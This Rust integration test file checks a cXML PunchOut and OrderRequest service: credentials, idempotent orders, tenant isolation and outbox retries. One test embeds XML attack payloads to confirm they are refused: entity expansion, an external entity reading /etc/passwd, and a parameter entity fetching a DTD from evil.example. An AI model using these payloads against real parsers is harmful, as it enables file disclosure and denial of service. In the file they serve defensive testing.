//! PunchOut and OrderRequest intake through the service layer, on a real database.

use crate::support::*;
use sea_orm::{ActiveModelTrait, ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter, Set};
use simdesk_domain::db::{begin, begin_write, DataScope};
use simdesk_domain::entity::{
    cxml_document, cxml_outbox, cxml_outbox_attempt, purchase_order, purchase_order_line, tenant,
};
use simdesk_domain::orders;
use simdesk_domain::punchout::credentials;
use simdesk_domain::punchout::outbox::{self, OutboxSettings};
use simdesk_domain::punchout::shopping::{self, CartForm, Visit};
use simdesk_domain::secret::SecretKey;
use simdesk_domain::testing::cxml::*;
use simdesk_domain::testing::TestDatabase;
use simdesk_domain::{Actor, DomainError};
use simdesk_types::{Entitlements, OptionKind, PoAction, PoStatus, PunchoutCredentialInput};

/// The contract price and part number of the account's nano SIM.
pub async fn nano(t: &TestDatabase, buyer: &Actor) -> (i64, String, String) {
    let form = orders::form_data(&t.db, buyer, None, None).await.unwrap();
    let entry = form
        .products
        .iter()
        .find(|p| p.part_number.ends_with("-IOT-4FF"))
        .expect("the nano SIM is assigned");
    let amount = format!("{}.{:02}", entry.price.minor / 100, entry.price.minor % 100);
    (entry.product_id, entry.part_number.clone(), amount)
}

async fn po(t: &TestDatabase, id: i64) -> purchase_order::Model {
    let txn = begin(&t.db, DataScope::System).await.unwrap();
    purchase_order::Entity::find_by_id(id)
        .one(&txn)
        .await
        .unwrap()
        .expect("the PO exists")
}

async fn po_count(t: &TestDatabase) -> u64 {
    let txn = begin(&t.db, DataScope::System).await.unwrap();
    purchase_order::Entity::find().count(&txn).await.unwrap()
}

/// A cart form with these quantities and the account's defaults.
fn cart_form(quantities: Vec<(i64, String)>) -> CartForm {
    CartForm {
        quantities,
        ..CartForm::default()
    }
}

/// Punches out as `email`: the procurement user, signed in, and the visit.
async fn visit_as(t: &TestDatabase, buyer: &Buyer, email: &str) -> (Actor, Visit) {
    let answer = post(t, buyer, "nordwind", &setup_request(&buyer.secret, email)).await;
    assert_eq!(code_of(&answer), 200, "{}", answer.xml);
    let started = shopping::start(&t.db, &start_token(&answer)).await.unwrap();
    let shopper = Actor::load(&t.db, started.user_id).await.unwrap().unwrap();
    (shopper, started.visit)
}

/// The nano SIM as the visit's catalog offers it.
async fn nano_in(t: &TestDatabase, shopper: &Actor, visit: Visit) -> simdesk_types::CatalogEntry {
    shopping::cart(&t.db, shopper, visit)
        .await
        .unwrap()
        .entries
        .into_iter()
        .find(|e| e.part_number.ends_with("-IOT-4FF"))
        .expect("the nano SIM is in the catalog")
}

/// Punches out as `email` and returns the cart of `quantity` nano SIMs; the PO id and the
/// PunchOutOrderMessage the browser would post.
pub async fn returned_cart(
    t: &TestDatabase,
    buyer: &Buyer,
    email: &str,
    quantity: u32,
) -> (i64, cxml::Cxml) {
    let (shopper, visit) = visit_as(t, buyer, email).await;
    let nano = nano_in(t, &shopper, visit).await;
    let back = shopping::transfer(
        &t.db,
        &shopper,
        visit,
        Some(cart_form(vec![(nano.product_id, quantity.to_string())])),
    )
    .await
    .unwrap();
    assert_eq!(back.url, "https://buyer.example/cart");
    assert_eq!(back.fields.len(), 1);
    let value = back
        .field("cxml-urlencoded")
        .expect("a cxml-urlencoded field");
    let message = cxml::parse(value.as_bytes()).expect("the cart is cXML");
    let cxml::Body::Message(m) = &message.body else {
        panic!("expected a PunchOutOrderMessage")
    };
    let aux = m.punch_out_order_message.items[0]
        .item_id
        .supplier_part_auxiliary_id
        .clone()
        .unwrap();
    let po_id: i64 = aux.split(':').nth(1).unwrap().parse().unwrap();
    (po_id, message)
}

#[tokio::test]
async fn a_profile_request_lists_the_transactions_at_the_tenant_address() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let body = format!(
        r#"<cXML payloadID="p1" timestamp="2026-11-21T10:00:00Z">{}<Request><ProfileRequest/></Request></cXML>"#,
        header(BUYER_ID, &buyer.secret)
    );
    let answer = post(&t, &buyer, "nordwind", &body).await;
    assert_eq!(code_of(&answer), 200);
    for name in ["ProfileRequest", "PunchOutSetupRequest", "OrderRequest"] {
        assert!(answer.xml.contains(&format!("requestName=\"{name}\"")));
    }
    assert!(answer.xml.contains("https://portal.example/cxml/nordwind"));
}

#[tokio::test]
async fn every_wrong_credential_gets_the_same_401_and_no_secret_is_stored() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let profile = |identity: &str, secret: &str, mode: &str| {
        format!(
            r#"<cXML payloadID="p" timestamp="2026-11-21T10:00:00Z">{}<Request deploymentMode="{mode}"><ProfileRequest/></Request></cXML>"#,
            header(identity, secret)
        )
    };
    let cases = [
        (
            "nordwind",
            profile(BUYER_ID, "wrong-secret-wrong-secret", "production"),
        ),
        ("nordwind", profile("AN0199", &buyer.secret, "production")),
        ("nordwind", profile(BUYER_ID, &buyer.secret, "test")),
        ("nordwind", profile(BUYER_ID, "", "production")),
        ("alpina", profile(BUYER_ID, &buyer.secret, "production")),
        ("nobody", profile(BUYER_ID, &buyer.secret, "production")),
    ];
    let mut texts = Vec::new();
    for (tenant, body) in cases {
        let answer = post(&t, &buyer, tenant, &body).await;
        assert_eq!(code_of(&answer), 401, "{tenant}: {}", answer.xml);
        texts.push(status_message(&answer));
    }
    texts.dedup();
    assert_eq!(texts.len(), 1, "401s must not say which part was wrong");

    let txn = begin(&t.db, DataScope::System).await.unwrap();
    let traced = cxml_document::Entity::find().all(&txn).await.unwrap();
    assert!(!traced.is_empty());
    assert!(traced.iter().all(|d| !d.body.contains(&buyer.secret)));
}

#[tokio::test]
async fn a_cart_goes_back_and_its_order_request_submits_it_once() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let (po_id, message) = returned_cart(&t, &buyer, "pat@hafenlogistik.example", 10).await;
    let cxml::Body::Message(m) = &message.body else {
        unreachable!()
    };
    assert_eq!(m.punch_out_order_message.buyer_cookie, "cookie-1");
    assert_eq!(
        po(&t, po_id).await.status,
        PoStatus::AwaitingBuyerPo.as_str()
    );
    let shopper = actor(&t, "pat@hafenlogistik.example").await;
    assert_eq!(
        shopper.account_id,
        Some(buyer.account_id),
        "created just in time"
    );

    let item = &m.punch_out_order_message.items[0];
    let part = item.item_id.supplier_part_id.clone();
    let aux = item.item_id.supplier_part_auxiliary_id.clone();
    let price = item.item_detail.unit_price.amount_string();
    let order = order_request(
        &buyer.secret,
        "order-1",
        "BUY-7001",
        "new",
        &[(&part, 10, &price, aux.as_deref())],
    );
    let count = po_count(&t).await;
    let first = post(&t, &buyer, "nordwind", &order).await;
    assert_eq!(code_of(&first), 200, "{}", first.xml);
    let submitted = po(&t, po_id).await;
    assert_eq!(submitted.status, PoStatus::Submitted.as_str());
    assert_eq!(submitted.external_reference.as_deref(), Some("BUY-7001"));
    assert_eq!(submitted.buyer_payload_id.as_deref(), Some("order-1"));

    let again = post(&t, &buyer, "nordwind", &order).await;
    assert_eq!(again, first, "a retry gets the very same answer");
    assert_eq!(po_count(&t).await, count, "and creates nothing");

    let changed = order.replace("BUY-7001", "BUY-7002");
    let reused = post(&t, &buyer, "nordwind", &changed).await;
    assert_eq!(code_of(&reused), 409);
    assert!(status_message(&reused).contains("payloadID order-1"));

    let second = changed.replace("payloadID=\"order-1\"", "payloadID=\"order-2\"");
    let twice = post(&t, &buyer, "nordwind", &second).await;
    assert_eq!(code_of(&twice), 409, "{}", twice.xml);
    assert!(status_message(&twice).contains("already ordered by order BUY-7001"));

    let agent = actor(&t, NORDWIND_AGENT).await;
    let detail = orders::detail(&t.db, &agent, po_id).await.unwrap();
    assert_eq!(detail.status, PoStatus::Submitted);
    assert!(detail.plausibility.is_some());
}

#[tokio::test]
async fn a_start_link_works_once() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let answer = post(
        &t,
        &buyer,
        "nordwind",
        &setup_request(&buyer.secret, "pat@hafenlogistik.example"),
    )
    .await;
    let token = start_token(&answer);
    shopping::start(&t.db, &token).await.unwrap();
    assert!(matches!(
        shopping::start(&t.db, &token).await,
        Err(DomainError::Conflict(_))
    ));
    assert!(shopping::start(&t.db, "not-a-token").await.is_err());
}

#[tokio::test]
async fn orders_without_a_cart_are_checked_against_the_contract() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let purchaser = actor(&t, HAFEN_PURCHASER).await;
    let (_, part, price) = nano(&t, &purchaser).await;

    let unknown = order_request(
        &buyer.secret,
        "o-unknown",
        "B-1",
        "new",
        &[(&part, 5, &price, None), ("NO-SUCH-SIM", 1, "1.00", None)],
    );
    let orders_before = po_count(&t).await;
    let refused = post(&t, &buyer, "nordwind", &unknown).await;
    assert_eq!(code_of(&refused), 400);
    assert!(status_message(&refused).contains("Line 2: SupplierPartID NO-SUCH-SIM"));
    let again = post(&t, &buyer, "nordwind", &unknown).await;
    assert_eq!(again, refused, "a retry gets the stored refusal");
    assert_eq!(
        po_count(&t).await,
        orders_before,
        "a refused order leaves no PO"
    );

    let fractional = order_request(
        &buyer.secret,
        "o-frac",
        "B-2",
        "new",
        &[(&part, 1, &price, None)],
    )
    .replace("quantity=\"1\"", "quantity=\"1.5\"");
    let answer = post(&t, &buyer, "nordwind", &fractional).await;
    assert_eq!(code_of(&answer), 400);
    assert!(status_message(&answer).contains("whole number"));

    // The tenant accepts exact contract matches by itself.
    let txn = begin_write(&t.db, DataScope::System).await.unwrap();
    let nordwind = tenant::Entity::find()
        .filter(tenant::Column::Slug.eq("nordwind"))
        .one(&txn)
        .await
        .unwrap()
        .unwrap();
    tenant::Entity::update(tenant::ActiveModel {
        id: sea_orm::Unchanged(nordwind.id),
        punchout_auto_accept: Set(true),
        ..Default::default()
    })
    .exec(&txn)
    .await
    .unwrap();
    txn.commit().await.unwrap();

    let exact = order_request(
        &buyer.secret,
        "o-exact",
        "B-3",
        "new",
        &[(&part, 10, &price, None)],
    );
    let answer = post(&t, &buyer, "nordwind", &exact).await;
    assert_eq!(code_of(&answer), 200, "{}", answer.xml);
    let created = po_by_reference(&t, "B-3").await;
    assert_eq!(created.status, PoStatus::Accepted.as_str());
    assert!(created.po_number.is_some());
    let reference = simdesk_types::PoReference::of(created.po_number, created.id).to_string();
    assert!(
        status_message(&answer).contains(&format!("{reference} is accepted")),
        "the answer names the PO as the acceptance left it: {}",
        status_message(&answer)
    );
    let lines = purchase_order_line::Entity::find()
        .filter(purchase_order_line::Column::PurchaseOrderId.eq(created.id))
        .all(&t.db)
        .await
        .unwrap();
    assert_eq!(lines.len(), 1, "the order's line, written once");
    assert_eq!(lines[0].quantity, 10);

    let cheaper = order_request(
        &buyer.secret,
        "o-cheap",
        "B-4",
        "new",
        &[(&part, 10, "0.01", None)],
    );
    let answer = post(&t, &buyer, "nordwind", &cheaper).await;
    assert_eq!(code_of(&answer), 200);
    let flagged = po_by_reference(&t, "B-4").await;
    assert_eq!(
        flagged.status,
        PoStatus::Submitted.as_str(),
        "a price off the contract waits for the agent"
    );
}

#[tokio::test]
async fn update_and_delete_change_an_order_until_it_is_accepted() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let purchaser = actor(&t, HAFEN_PURCHASER).await;
    let (_, part, price) = nano(&t, &purchaser).await;
    let new = order_request(
        &buyer.secret,
        "order-1",
        "B-9",
        "new",
        &[(&part, 5, &price, None)],
    );
    assert_eq!(code_of(&post(&t, &buyer, "nordwind", &new).await), 200);
    let update = order_request(
        &buyer.secret,
        "order-1-u",
        "B-9",
        "update",
        &[(&part, 20, &price, None)],
    );
    let answer = post(&t, &buyer, "nordwind", &update).await;
    assert_eq!(code_of(&answer), 200, "{}", answer.xml);
    let revised = po_by_reference(&t, "B-9").await;
    assert_eq!(revised.status, PoStatus::Submitted.as_str());
    let agent = actor(&t, NORDWIND_AGENT).await;
    let detail = orders::detail(&t.db, &agent, revised.id).await.unwrap();
    assert_eq!(detail.lines[0].quantity, 20);

    let delete = order_request(
        &buyer.secret,
        "order-1-d",
        "B-9",
        "delete",
        &[(&part, 20, &price, None)],
    );
    let answer = post(&t, &buyer, "nordwind", &delete).await;
    assert_eq!(code_of(&answer), 200, "{}", answer.xml);
    assert_eq!(
        po(&t, revised.id).await.status,
        PoStatus::Cancelled.as_str()
    );
    let late = order_request(
        &buyer.secret,
        "order-1-u2",
        "B-9",
        "update",
        &[(&part, 1, &price, None)],
    );
    assert_eq!(code_of(&post(&t, &buyer, "nordwind", &late).await), 409);
}

#[tokio::test]
async fn concurrent_duplicates_create_one_order() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let purchaser = actor(&t, HAFEN_PURCHASER).await;
    let (_, part, price) = nano(&t, &purchaser).await;
    let order = order_request(
        &buyer.secret,
        "dup-1",
        "B-DUP",
        "new",
        &[(&part, 5, &price, None)],
    );
    let count = po_count(&t).await;
    let answers =
        futures::future::join_all((0..8).map(|_| post(&t, &buyer, "nordwind", &order))).await;
    assert!(answers.iter().all(|a| *a == answers[0]), "{answers:?}");
    assert_eq!(code_of(&answers[0]), 200);
    assert_eq!(po_count(&t).await, count + 1);
}

/// The counts per status are written at commit (PostgreSQL), into a slot of the transaction:
/// concurrent orders, a duplicate among them, still leave each count equal to the orders.
#[tokio::test]
async fn concurrent_orders_keep_the_counts_per_status_exact() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let purchaser = actor(&t, HAFEN_PURCHASER).await;
    let agent = actor(&t, NORDWIND_AGENT).await;
    let (_, part, price) = nano(&t, &purchaser).await;
    let mut documents: Vec<String> = (0..24)
        .map(|i| {
            order_request(
                &buyer.secret,
                &format!("count-{i}"),
                &format!("B-COUNT-{i}"),
                "new",
                &[(&part, 2, &price, None)],
            )
        })
        .collect();
    // A duplicate among them is answered from the first and counted once.
    documents.push(documents[0].clone());
    let answers =
        futures::future::join_all(documents.iter().map(|d| post(&t, &buyer, "nordwind", d))).await;
    assert!(answers.iter().all(|a| code_of(a) == 200), "{answers:?}");
    let listed = orders::list(&t.db, &agent, Default::default())
        .await
        .unwrap();
    let txn = begin(&t.db, DataScope::System).await.unwrap();
    let tenant_orders: Vec<purchase_order::Model> = purchase_order::Entity::find()
        .filter(purchase_order::Column::TenantId.eq(agent.tenant_id))
        .all(&txn)
        .await
        .unwrap();
    for status in PoStatus::ALL {
        let present = tenant_orders
            .iter()
            .filter(|po| po.status == status.as_str())
            .count() as u64;
        let counted = listed
            .counts
            .iter()
            .find(|c| c.status == *status)
            .map_or(0, |c| c.count);
        assert_eq!(counted, present, "{status:?}");
    }
}

#[tokio::test]
async fn one_account_can_never_order_or_see_another_accounts_cart() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let (po_id, _) = returned_cart(&t, &buyer, "pat@hafenlogistik.example", 10).await;

    // Bergbahn's procurement system names Hafenlogistik's cart.
    let admin = actor(&t, NORDWIND_ADMIN).await;
    let bergbahn = actor(&t, BERGBAHN_ADMIN).await;
    let other = credentials::save(
        &t.db,
        &buyer.key,
        &admin,
        None,
        None,
        PunchoutCredentialInput {
            shared_secret: "bergbahn-secret-0001".into(),
            ..credential_input(bergbahn.account_id.unwrap(), "NetworkID", "AN-BERGBAHN")
        },
    )
    .await
    .unwrap();
    assert!(other.generated_secret.is_none());
    let purchaser = actor(&t, HAFEN_PURCHASER).await;
    let (_, part, price) = nano(&t, &purchaser).await;
    let aux = format!("simdesk:{po_id}:1");
    let order = order_request(
        "bergbahn-secret-0001",
        "x-1",
        "X-1",
        "new",
        &[(&part, 10, &price, Some(&aux))],
    )
    .replace(BUYER_ID, "AN-BERGBAHN");
    let answer = post(&t, &buyer, "nordwind", &order).await;
    assert_ne!(code_of(&answer), 200, "{}", answer.xml);
    assert_eq!(
        po(&t, po_id).await.status,
        PoStatus::AwaitingBuyerPo.as_str()
    );

    // Another tenant's admin cannot give itself a credential for the account.
    let alpina = actor(&t, ALPINA_ADMIN).await;
    let stolen = credentials::save(
        &t.db,
        &buyer.key,
        &alpina,
        None,
        None,
        credential_input(buyer.account_id, "NetworkID", "AN-THIEF"),
    )
    .await;
    assert!(matches!(stolen, Err(DomainError::NotFound)), "{stolen:?}");
    assert!(credentials::list(&t.db, &alpina, None)
        .await
        .unwrap()
        .is_empty());

    // Another user cannot use someone's PunchOut visit.
    let answer = post(
        &t,
        &buyer,
        "nordwind",
        &setup_request(&buyer.secret, "sam@hafenlogistik.example"),
    )
    .await;
    let started = shopping::start(&t.db, &start_token(&answer)).await.unwrap();
    let intruder = actor(&t, HAFEN_PURCHASER).await;
    assert!(matches!(
        shopping::cart(&t.db, &intruder, started.visit).await,
        Err(DomainError::NotFound)
    ));
    assert!(
        shopping::transfer(&t.db, &intruder, Visit(started.visit.0), None)
            .await
            .is_err()
    );
}

#[tokio::test]
async fn hostile_documents_are_refused_with_a_4xx_status() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><cXML payloadID="x" timestamp="2026-11-21T10:00:00Z">&b;</cXML>"#;
    let external = r#"<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]><cXML payloadID="x" timestamp="2026-11-21T10:00:00Z">&x;</cXML>"#;
    let parameter = r#"<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;]><cXML/>"#;
    let deep = format!(
        "<cXML payloadID=\"x\" timestamp=\"2026-11-21T10:00:00Z\">{}{}</cXML>",
        "<a>".repeat(5000),
        "</a>".repeat(5000)
    );
    for body in [
        laughs.to_owned(),
        external.to_owned(),
        parameter.to_owned(),
        deep,
        "not xml".to_owned(),
    ] {
        let answer = post(&t, &buyer, "nordwind", &body).await;
        let code = code_of(&answer);
        assert!((400..500).contains(&code), "{code}: {}", answer.xml);
    }
    let huge = format!("<cXML>{}</cXML>", " ".repeat(5 * 1024 * 1024));
    assert_eq!(code_of(&post(&t, &buyer, "nordwind", &huge).await), 413);
}

#[tokio::test]
async fn credentials_are_validated_and_kept_secret() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let admin = actor(&t, NORDWIND_ADMIN).await;
    let bad = credentials::save(
        &t.db,
        &buyer.key,
        &admin,
        None,
        None,
        PunchoutCredentialInput {
            account_id: buyer.account_id,
            deployment_mode: "staging".into(),
            domain: "Network ID".into(),
            identity: String::new(),
            shared_secret: "short".into(),
            cart_encoding: "hex".into(),
            frame_ancestors: "https://ok.example http://evil.example https://x.example/path".into(),
            order_response_url: "ftp://x".into(),
            enabled: true,
        },
    )
    .await;
    let Err(DomainError::Invalid(errors)) = bad else {
        panic!("expected field errors, got {bad:?}")
    };
    let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
    for field in [
        "deployment_mode",
        "domain",
        "identity",
        "shared_secret",
        "cart_encoding",
        "frame_ancestors",
        "order_response_url",
    ] {
        assert!(fields.contains(&field), "{field} missing in {fields:?}");
    }
    let duplicate = credentials::save(
        &t.db,
        &buyer.key,
        &admin,
        None,
        None,
        credential_input(buyer.account_id, "networkid", BUYER_ID),
    )
    .await;
    assert!(
        matches!(duplicate, Err(DomainError::Invalid(_))),
        "{duplicate:?}"
    );
    let listed = credentials::list(&t.db, &admin, Some(buyer.account_id))
        .await
        .unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(
        listed[0].frame_ancestors,
        vec!["https://buyer.example".to_owned()]
    );
    let agent = actor(&t, NORDWIND_AGENT).await;
    assert!(matches!(
        credentials::list(&t.db, &agent, None).await,
        Err(DomainError::Forbidden)
    ));
}

#[tokio::test]
async fn the_cart_may_choose_other_sim_settings_where_the_tenant_allows_it() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let email = "pat@hafenlogistik.example";
    let (shopper, visit) = visit_as(&t, &buyer, email).await;
    let cart = shopping::cart(&t.db, &shopper, visit).await.unwrap();
    assert!(cart.sim_settings.overrides_allowed);
    assert_eq!(cart.sim_settings.defaults.len(), 5);
    let plan = cart
        .sim_settings
        .override_options
        .iter()
        .find(|o| o.kind == OptionKind::PricePlan && o.code == "IOT-L")
        .expect("an entitled price plan")
        .clone();
    let nano = nano_in(&t, &shopper, visit).await;
    let chosen = CartForm {
        quantities: vec![(nano.product_id, "10".into())],
        overrides: Entitlements {
            price_plan: Some(plan.id),
            ..Entitlements::default()
        },
    };
    let back = shopping::transfer(&t.db, &shopper, visit, Some(chosen))
        .await
        .unwrap();
    let message = cxml::parse(back.field("cxml-urlencoded").unwrap().as_bytes()).unwrap();
    let cxml::Body::Message(m) = &message.body else {
        panic!("a PunchOutOrderMessage")
    };
    let item = &m.punch_out_order_message.items[0].item_id;
    let aux = item.supplier_part_auxiliary_id.clone().unwrap();
    let po_id: i64 = aux.split(':').nth(1).unwrap().parse().unwrap();
    let purchaser = actor(&t, HAFEN_PURCHASER).await;
    let recorded = orders::detail(&t.db, &purchaser, po_id).await.unwrap();
    assert_eq!(recorded.overrides.price_plan, Some(plan.id));

    // Editing the cart shows the choice again; a choice the account is not entitled to is
    // named and changes nothing.
    let answer = post(
        &t,
        &buyer,
        "nordwind",
        &edit_request(&buyer.secret, email, &[(&item.supplier_part_id, 10, &aux)]),
    )
    .await;
    assert_eq!(code_of(&answer), 200, "{}", answer.xml);
    let started = shopping::start(&t.db, &start_token(&answer)).await.unwrap();
    let editing = shopping::cart(&t.db, &shopper, started.visit)
        .await
        .unwrap();
    assert_eq!(editing.overrides.price_plan, Some(plan.id));
    let wrong_kind = CartForm {
        quantities: vec![(nano.product_id, "20".into())],
        overrides: Entitlements {
            roaming_profile: Some(plan.id),
            ..Entitlements::default()
        },
    };
    let refused = shopping::transfer(&t.db, &shopper, started.visit, Some(wrong_kind)).await;
    let Err(DomainError::Invalid(errors)) = refused else {
        panic!("a price plan is no roaming profile: {refused:?}")
    };
    assert_eq!(errors[0].field, "overrides.roaming_profile");
    let unchanged = orders::detail(&t.db, &purchaser, po_id).await.unwrap();
    assert_eq!(unchanged.version, recorded.version);
    assert_eq!(unchanged.lines[0].quantity, 10);

    // Where the tenant does not allow overrides, the cart offers none and refuses one.
    let txn = begin_write(&t.db, DataScope::System).await.unwrap();
    let nordwind = tenant::Entity::find()
        .filter(tenant::Column::Slug.eq("nordwind"))
        .one(&txn)
        .await
        .unwrap()
        .unwrap();
    tenant::ActiveModel {
        id: sea_orm::Unchanged(nordwind.id),
        allow_default_overrides: Set(false),
        ..Default::default()
    }
    .update(&txn)
    .await
    .unwrap();
    txn.commit().await.unwrap();
    let (shopper, visit) = visit_as(&t, &buyer, email).await;
    let cart = shopping::cart(&t.db, &shopper, visit).await.unwrap();
    assert!(!cart.sim_settings.overrides_allowed);
    assert!(cart.sim_settings.override_options.is_empty());
    let before = po_count(&t).await;
    let refused = shopping::transfer(
        &t.db,
        &shopper,
        visit,
        Some(CartForm {
            quantities: vec![(nano.product_id, "10".into())],
            overrides: Entitlements {
                price_plan: Some(plan.id),
                ..Entitlements::default()
            },
        }),
    )
    .await;
    let Err(DomainError::Invalid(errors)) = refused else {
        panic!("overrides are not allowed: {refused:?}")
    };
    assert_eq!(errors[0].field, "overrides");
    assert_eq!(po_count(&t).await, before);
}

async fn outbox_rows(t: &TestDatabase) -> Vec<cxml_outbox::Model> {
    let txn = begin(&t.db, DataScope::System).await.unwrap();
    cxml_outbox::Entity::find().all(&txn).await.unwrap()
}

/// The PO of the buyer's order `reference`.
async fn po_by_reference(t: &TestDatabase, reference: &str) -> purchase_order::Model {
    let txn = begin(&t.db, DataScope::System).await.unwrap();
    purchase_order::Entity::find()
        .filter(purchase_order::Column::ExternalReference.eq(reference))
        .one(&txn)
        .await
        .unwrap()
        .expect("a PO with this reference")
}

/// Hafenlogistik's order `reference` (10 nano SIMs), accepted by the agent: the outbox holds
/// its confirmation for a procurement system that is never called (nothing here posts).
async fn accepted(t: &TestDatabase, reference: &str) -> Buyer {
    let buyer = hafen_buyer_answered_at(t, "https://buyer.example/cxml").await;
    let purchaser = actor(t, HAFEN_PURCHASER).await;
    let (_, part, price) = nano(t, &purchaser).await;
    let order = order_request(
        &buyer.secret,
        &format!("payload-{reference}"),
        reference,
        "new",
        &[(&part, 10, &price, None)],
    );
    assert_eq!(code_of(&post(t, &buyer, "nordwind", &order).await), 200);
    let agent = actor(t, NORDWIND_AGENT).await;
    let po_id = po_by_reference(t, reference).await.id;
    let version = orders::detail(&t.db, &agent, po_id).await.unwrap().version;
    orders::act(&t.db, &agent, po_id, version, PoAction::Accept, "")
        .await
        .unwrap();
    buyer
}

/// The one document due, claimed.
async fn claim_the_one_due(
    t: &TestDatabase,
    key: &SecretKey,
    settings: &OutboxSettings,
) -> outbox::Delivery {
    let due = outbox::due(&t.db, settings).await.unwrap();
    let [due] = due.as_slice() else {
        panic!("one document due, not {}", due.len())
    };
    outbox::claim(&t.db, key, settings, due)
        .await
        .unwrap()
        .expect("nobody else claimed it")
}

#[tokio::test]
async fn a_due_document_is_claimed_once_and_only_then_gets_its_secret() {
    let t = full_demo_db().await;
    let buyer = accepted(&t, "CL-1").await;
    let settings = OutboxSettings::default();
    let due = outbox::due(&t.db, &settings).await.unwrap();
    let [due] = due.as_slice() else {
        panic!("one document due: {due:?}")
    };
    let delivery = outbox::claim(&t.db, &buyer.key, &settings, due)
        .await
        .unwrap()
        .expect("claimed");
    assert_eq!(delivery.id(), due.id());
    assert_eq!(delivery.url(), "https://buyer.example/cxml");
    assert_eq!(delivery.document_type(), "ConfirmationRequest");
    let body = delivery.body().expect("a body to send");
    let document = cxml::parse(body.as_bytes()).unwrap();
    let cxml::Body::Request(request) = &document.body else {
        panic!("a request")
    };
    assert_eq!(request.header.shared_secret(), Some(buyer.secret.as_str()));
    assert!(
        !outbox_rows(&t).await[0].payload.contains(&buyer.secret),
        "no secret at rest"
    );
    assert!(
        !format!("{delivery:?}").contains(&buyer.secret),
        "no secret in logs"
    );

    assert!(
        outbox::claim(&t.db, &buyer.key, &settings, due)
            .await
            .unwrap()
            .is_none(),
        "a second worker finds it claimed"
    );
    assert!(
        outbox::due(&t.db, &settings).await.unwrap().is_empty(),
        "not due while its attempt may still run"
    );
    let row = &outbox_rows(&t).await[0];
    assert_eq!((row.status.as_str(), row.attempts), ("pending", 0));
}

#[tokio::test]
async fn a_retry_waits_its_backoff_and_the_last_one_gives_up() {
    let t = full_demo_db().await;
    let buyer = accepted(&t, "RT-1").await;
    let settings = OutboxSettings {
        max_attempts: 2,
        ..OutboxSettings::default()
    };
    let delivery = claim_the_one_due(&t, &buyer.key, &settings).await;
    let before = chrono::Utc::now();
    let answered = |status: i32| outbox::Attempt {
        outcome: outbox::Outcome::Retry("server error: HTTP 503".into()),
        http_status: Some(status),
        cxml_status: None,
        took: std::time::Duration::from_millis(12),
    };
    outbox::record_outcome(&t.db, &settings, &delivery, answered(503))
        .await
        .unwrap();
    let waiting = &outbox_rows(&t).await[0];
    assert_eq!((waiting.status.as_str(), waiting.attempts), ("pending", 1));
    assert_eq!(waiting.last_error, "server error: HTTP 503");
    assert!(waiting.next_attempt_at >= before + settings.backoff(1));
    assert!(
        outbox::due(&t.db, &settings).await.unwrap().is_empty(),
        "not due before its backoff"
    );

    // Due at once from here on, and the second attempt is the last.
    let impatient = OutboxSettings {
        first_retry: chrono::Duration::zero(),
        ..settings.clone()
    };
    let txn = begin_write(&t.db, DataScope::System).await.unwrap();
    cxml_outbox::ActiveModel {
        id: sea_orm::Unchanged(waiting.id),
        next_attempt_at: Set(before),
        ..Default::default()
    }
    .update(&txn)
    .await
    .unwrap();
    txn.commit().await.unwrap();
    let delivery = claim_the_one_due(&t, &buyer.key, &impatient).await;
    outbox::record_outcome(&t.db, &impatient, &delivery, answered(502))
        .await
        .unwrap();
    let given_up = &outbox_rows(&t).await[0];
    assert_eq!((given_up.status.as_str(), given_up.attempts), ("failed", 2));
    assert_eq!(
        given_up.last_error,
        "server error: HTTP 503 (gave up after 2 attempts)"
    );
    assert!(outbox::due(&t.db, &impatient).await.unwrap().is_empty());

    let txn = begin(&t.db, DataScope::System).await.unwrap();
    let attempts = cxml_outbox_attempt::Entity::find().all(&txn).await.unwrap();
    assert_eq!(
        attempts
            .iter()
            .map(|a| (a.http_status, a.duration_ms))
            .collect::<Vec<_>>(),
        vec![(Some(503), 12), (Some(502), 12)]
    );
}

#[tokio::test]
async fn a_document_that_cannot_be_prepared_is_refused_unsent() {
    let t = full_demo_db().await;
    accepted(&t, "KY-1").await;
    let settings = OutboxSettings::default();
    let wrong_key = SecretKey::generate();
    let delivery = claim_the_one_due(&t, &wrong_key, &settings).await;
    let reason = delivery.body().expect_err("the secret does not open");
    assert!(reason.starts_with("cannot prepare: "), "{reason}");
    outbox::record_outcome(
        &t.db,
        &settings,
        &delivery,
        outbox::Attempt::refused(reason),
    )
    .await
    .unwrap();
    let failed = &outbox_rows(&t).await[0];
    assert_eq!((failed.status.as_str(), failed.attempts), ("failed", 1));
    assert!(failed.last_error.starts_with("cannot prepare: "));
    let txn = begin(&t.db, DataScope::System).await.unwrap();
    let attempts = cxml_outbox_attempt::Entity::find().all(&txn).await.unwrap();
    assert_eq!(
        attempts
            .iter()
            .map(|a| (a.http_status, a.cxml_status))
            .collect::<Vec<_>>(),
        vec![(None, None)]
    );
}

#[test]
fn backoff_doubles_up_to_its_cap() {
    let settings = OutboxSettings::default();
    assert_eq!(settings.backoff(1), chrono::Duration::seconds(30));
    assert_eq!(settings.backoff(2), chrono::Duration::seconds(60));
    assert_eq!(settings.backoff(3), chrono::Duration::seconds(120));
    assert_eq!(settings.backoff(30), chrono::Duration::hours(1));
}

#[tokio::test]
